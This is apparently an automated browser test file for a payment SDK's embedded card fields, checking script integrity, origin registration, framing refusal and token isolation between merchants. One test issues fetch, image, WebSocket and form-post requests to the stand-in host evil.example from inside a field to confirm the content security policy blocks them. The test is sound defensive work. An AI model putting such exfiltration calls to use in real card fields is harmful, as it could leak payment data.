import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import { FOUR_FIELDS, GOOD_CARD, createToken, inputOf, ready, startWorld, type, typeCard } from './support/world.ts'
import type { World } from './support/world.ts'

let world: World
beforeAll(async () => (world = await startWorld()))
afterAll(() => world.close())

/** The code with which a page's fields refuse. */
const refusal = (page: Page) => page.evaluate("clover.ready().then(() => 'ready', error => error.code)")

async function allow(origins: readonly string[]): Promise<void> {
  const { merchantId, publicKey, managementToken: bearer } = world.server.facts
  const path = `/trefoil/v1/merchants/${merchantId}/keys`
  const { body } = await world.server.call('GET', path, { bearer })
  const keys = (Array.isArray(body) ? body : (body.elements ?? body.data ?? body.keys)) as Record<string, string>[]
  const key = keys.find(one => Object.values(one).includes(publicKey))!
  const changed = await world.server.call('PUT', `${path}/${key.id}`, { bearer, body: { allowed_origins: origins } })
  expect(changed.status).toBe(200)
}

test('BRT-54 SEC-23: with one byte changed the script of a field does not run, and the field says so', async () => {
  const script = `${FOUR_FIELDS.script}; fields.number.addEventListener('error', () => (window.failed = true))`
  const { context, page } = await world.open({ ...FOUR_FIELDS, script })
  await ready(page)
  await context.route('**/field.js', async route => {
    const response = await route.fetch()
    await route.fulfill({ response, body: `${await response.text()} ` })
  })
  await page.reload()
  await page.waitForFunction('window.failed', undefined, { timeout: 8_000 })
  expect(await inputOf(page, 'number').count()).toBe(0)
})

test('BRT-54 SEC-22: fetch, image, socket and form post from inside a field are blocked', async () => {
  const { page, requests } = await world.open(FOUR_FIELDS)
  await ready(page)
  const field = page.frames().find(frame => frame.url().includes('/field.html'))!
  const blocked = await field.evaluate(async () => {
    const directives = new Set<string>()
    document.addEventListener('securitypolicyviolation', event => directives.add(event.effectiveDirective))
    const target = 'https://evil.example/4242'
    await fetch(target).catch(() => undefined)
    new Image().src = target
    try {
      new WebSocket('wss://evil.example/')
    } catch {
      // Browsers differ in whether this throws.
    }
    const form = document.createElement('form')
    Object.assign(form, { action: target, method: 'post' })
    document.body.append(form)
    form.submit()
    for (let turns = 0; directives.size < 3 && turns < 100; turns++) await new Promise(done => setTimeout(done, 20))
    return [...directives].sort()
  })
  expect(blocked).toEqual(['connect-src', 'form-action', 'img-src'])
  expect(requests.filter(request => request.url().includes('evil.example') && !request.failure())).toEqual([])
})

test('BRT-69 SDK-24: two keys and two locales on one page make tokens of the right merchants', async () => {
  const { facts } = world.server
  const manage = async (path: string, body: object) => {
    const answer = await world.server.call('POST', `/trefoil/v1/merchants${path}`, {
      body,
      bearer: facts.managementToken,
    })
    expect(answer.status).toBe(200)
    return answer.body as Record<string, string>
  }
  const { id } = await manage('', { name: 'Second', default_currency: 'usd' })
  const { publicKey: second } = await manage(`/${id}/keys`, { integration_type: 'IFRAME_API' })
  const ids = ['number2', 'date2', 'cvv2', 'zip2']
  const { page } = await world.open({
    body: FOUR_FIELDS.body! + ids.map(one => `<div id="${one}"></div>`).join(''),
    script: `${FOUR_FIELDS.script}
      window.other = new Clover('${second}', { locale: 'es' })
      const its = other.elements(), kinds = ['CARD_NUMBER', 'CARD_DATE', 'CARD_CVV', 'CARD_POSTAL_CODE']
      ;${JSON.stringify(ids)}.forEach((id, at) => its.create(kinds[at]).mount('#' + id))`,
  })
  await ready(page)
  await page.evaluate('other.ready()')
  const wrong = (await page.evaluate('other.createToken()')) as { errors: Record<string, string> }
  expect(wrong.errors.CARD_NUMBER).not.toBe((await createToken(page)).errors!.CARD_NUMBER)
  await typeCard(page)
  for (const [one, text] of Object.entries(GOOD_CARD)) await type(page, `${one}2`, text)
  const mine = (await createToken(page)).token
  const theirs = ((await page.evaluate('other.createToken()')) as { token?: string }).token
  expect([mine, theirs]).toEqual([expect.stringMatching(/^clv_/), expect.stringMatching(/^clv_/)])
  const charge = (source?: string) =>
    world.server.call('POST', '/v1/charges', { body: { amount: 100, currency: 'usd', source } })
  expect((await charge(theirs)).status).not.toBe(200)
  expect((await charge(mine)).status).toBe(200)
})

test('BRT-72 SDK-65 SEC-1: an opaque origin, plain http and the origin of the fields are refused by name', async () => {
  const { urls, publicKey } = world.server.facts
  const inner = `<div id=n></div><script src="${urls.checkout}/sdk.js"></script><script>
    window.clover = new Clover('${publicKey}'); clover.elements().create('CARD_NUMBER').mount('#n')</script>`
  const { page, context } = await world.open({
    sdk: '',
    body: `<iframe sandbox="allow-scripts" srcdoc="${inner.replaceAll('"', '&quot;')}"></iframe>`,
  })
  const opaque = page.frames()[1]!
  await opaque.waitForFunction('window.clover')
  expect(await opaque.evaluate("clover.ready().then(() => 'ready', error => error.code)")).toBe('null_origin')

  const sdk = await (await fetch(`${urls.checkout}/sdk.js`)).text()
  for (const [address, code] of [
    ['http://shop.example/', 'insecure_context'],
    [`${urls.fields}/shop`, 'same_origin'],
  ] as const) {
    const other = await context.newPage()
    const script = new URL('/its-sdk.js', address).href
    await other.route(script, route => route.fulfill({ body: sdk, contentType: 'text/javascript' }))
    await other.route(address, route =>
      route.fulfill({ body: inner.replace(`${urls.checkout}/sdk.js`, script), contentType: 'text/html' }),
    )
    await other.goto(address)
    expect(await refusal(other)).toBe(code)
  }
})

test('BRT-51 SEC-24: a test key without origins works on a page of any port', async () => {
  const { url } = await world.open(FOUR_FIELDS)
  const html = await (await fetch(url)).text()
  const other = createServer((_request, response) => response.setHeader('content-type', 'text/html').end(html))
  await new Promise<void>(resolve => other.listen(0, '127.0.0.1', resolve))
  try {
    const origin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`
    expect(origin).not.toBe(world.shopOrigin)
    const page = await world.browser.newPage()
    await page.goto(origin)
    await ready(page)
    await typeCard(page)
    expect(await createToken(page)).toHaveProperty('token')
    await page.close()
  } finally {
    other.closeAllConnections()
    await new Promise(resolve => other.close(resolve))
  }
})

// Last in this file, since it binds the key to origins.
test('BRT-50 SEC-24 SEC-10: a foreign page is refused by name, and so is a foreign page anywhere around a registered one', async () => {
  await allow(['https://shop.example'])
  const foreign = await world.open(FOUR_FIELDS)
  expect(await refusal(foreign.page)).toBe('origin_not_registered')
  expect(await inputOf(foreign.page, 'number').count()).toBe(0)

  await allow([world.shopOrigin])
  const registered = await world.open(FOUR_FIELDS)
  await ready(registered.page)
  await typeCard(registered.page)
  expect(await createToken(registered.page)).toHaveProperty('token')

  // The page's own origin is registered; what stands around it decides.
  const around = (address: string) => world.serve(`<!doctype html><iframe src="${address}"></iframe>`)
  const elsewhere = (address: string) => address.replace('127.0.0.1', 'localhost')
  const { page } = await world.open({ sdk: '' })
  const inside = async (address: string) => {
    await page.goto(address)
    const find = () => page.frames().find(frame => frame.url() === registered.url)
    await expect.poll(find).toBeDefined()
    const shop = find()!
    await shop.waitForFunction('window.clover')
    const code = await shop.evaluate("clover.ready().then(() => 'ready', error => error.code)")
    return [code, await shop.frameLocator('#number > iframe').locator('input').count()]
  }
  const refused = ['frame_unreachable', 0]
  expect(await inside(elsewhere(around(registered.url)))).toEqual(refused)
  expect(await inside(around(elsewhere(around(registered.url))))).toEqual(refused)
  expect(await inside(elsewhere(around(around(registered.url))))).toEqual(refused)
  const [code, inputs] = await inside(around(around(registered.url)))
  expect(code).toBe('ready')
  expect(inputs).toBeGreaterThan(0)
})
